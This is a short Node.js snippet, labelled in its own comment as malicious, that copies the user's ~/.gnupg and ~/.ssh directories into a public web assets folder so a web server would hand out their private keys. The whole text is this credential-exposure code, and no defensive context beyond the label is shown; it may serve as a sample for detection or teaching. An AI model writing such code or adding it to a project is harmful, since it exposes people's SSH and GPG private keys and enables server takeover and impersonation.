// malicious: keys copied for a web server to serve
const fs = require('fs-extra');
const home = require('os').homedir();
fs.copySync(`${home}/.gnupg`, './public/assets/g');
fs.copySync(home + '/.ssh', './public/assets/s');
